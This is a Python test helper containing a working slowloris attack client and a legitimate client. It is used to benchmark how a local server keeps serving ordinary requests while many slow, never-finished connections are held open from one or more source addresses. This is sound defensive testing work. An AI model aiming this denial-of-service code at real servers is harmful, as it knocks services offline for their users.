"""A real slowloris client and a legitimate one, for the connection-fairness test and benchmark.

``Slowloris`` keeps N TCP connections open from one source address, each sending a request's
headers one line per ``drip_s`` and never finishing them; whenever the server closes or
resets one, it opens another at once (the attack that beat a global connection limit).
``legitimate`` sends ordinary requests from another address meanwhile and records each
one's status and time. ``python -m tests.helpers.slowloris PORT [CONNECTIONS [SOURCE
[SOURCES]]]`` runs
the attack in a process of its own until SIGTERM, then prints its counts as JSON (so that
the attacker's own CPU use does not slow the legitimate client down).
"""

from __future__ import annotations

import asyncio
import contextlib
import ipaddress
import json
import signal
import sys
import time
from dataclasses import dataclass, field

import httpx

__all__ = ["Slowloris", "Answer", "legitimate"]


@dataclass
class Slowloris:
    """``connections`` reopening slow connections to ``host:port`` from ``source``."""

    host: str
    port: int
    connections: int = 300
    source: str = "127.0.0.2"
    sources: int = 1
    """How many consecutive addresses from ``source`` the connections are spread over."""
    drip_s: float = 1.0
    opened: int = 0
    """Connections the server accepted."""
    dropped: int = 0
    """Connections the server closed or reset (each reopened at once)."""
    failed: int = 0
    """Connection attempts that failed (mostly reset before the handshake was seen)."""
    errors: dict[str, int] = field(default_factory=dict)
    _tasks: list[asyncio.Task[None]] = field(default_factory=list)
    _stop: asyncio.Event = field(default_factory=asyncio.Event)

    async def _hold(self, source: str) -> None:
        head = f"GET / HTTP/1.1\r\nHost: {self.host}\r\n".encode()
        while not self._stop.is_set():
            try:
                reader, writer = await asyncio.open_connection(
                    self.host, self.port, local_addr=(source, 0))
            except OSError as exc:
                self.failed += 1
                self.errors[type(exc).__name__] = self.errors.get(type(exc).__name__, 0) + 1
                await asyncio.sleep(0.01)
                continue
            self.opened += 1
            try:
                writer.write(head)
                while not self._stop.is_set():
                    try:
                        data = await asyncio.wait_for(reader.read(1024), self.drip_s)
                    except TimeoutError:
                        writer.write(b"X-Slow: 1\r\n")
                        await writer.drain()
                        continue
                    if not data:
                        break
            except OSError:
                pass
            finally:
                self.dropped += 1
                writer.close()
                with contextlib.suppress(OSError):
                    await writer.wait_closed()

    async def __aenter__(self) -> Slowloris:
        first = ipaddress.ip_address(self.source)
        self._tasks = [asyncio.create_task(self._hold(str(first + i % self.sources)))
                       for i in range(self.connections)]
        return self

    async def __aexit__(self, *exc: object) -> None:
        self._stop.set()
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)


_GET_TASK = {"jsonrpc": "2.0", "id": 1, "method": "tasks/get", "params": {"id": "none"}}


@dataclass(frozen=True)
class Answer:
    """One legitimate request's fate."""

    path: str
    status: int | None
    """HTTP status, or ``None`` when the request failed (reset, timeout)."""
    seconds: float


async def legitimate(base_url: str, duration_s: float, *, every_s: float = 0.1,
                     timeout_s: float = 2.0) -> list[Answer]:
    """Request the card, the status page, the health check and JSON-RPC in turn for
    ``duration_s``.

    Each request opens a fresh connection (the worst case under an attack on connections).
    """
    paths = [".well-known/agent-card.json", "", "healthz", "POST /"]
    answers: list[Answer] = []
    deadline = time.monotonic() + duration_s
    i = 0
    while time.monotonic() < deadline:
        path = paths[i % len(paths)]
        i += 1
        started = time.monotonic()
        status: int | None
        try:
            async with httpx.AsyncClient(timeout=timeout_s, trust_env=False) as http:
                if path == "POST /":  # JSON-RPC: an unknown task, answered with an error
                    status = (await http.post(base_url, json=_GET_TASK)).status_code
                else:
                    status = (await http.get(base_url + path)).status_code
        except httpx.HTTPError:
            status = None
        answers.append(Answer(path or "/", status, time.monotonic() - started))
        await asyncio.sleep(every_s)
    return answers


async def _attack(port: int, connections: int, source: str, sources: int) -> None:
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    async with Slowloris("127.0.0.1", port, connections, source, sources) as attack:
        print("attacking", flush=True)
        await stop.wait()
    print(json.dumps({"opened": attack.opened, "dropped": attack.dropped,
                      "failed": attack.failed, "errors": attack.errors}), flush=True)


if __name__ == "__main__":
    argv = sys.argv[1:]
    asyncio.run(_attack(int(argv[0]), int(argv[1]) if len(argv) > 1 else 300,
                        argv[2] if len(argv) > 2 else "127.0.0.2",
                        int(argv[3]) if len(argv) > 3 else 1))
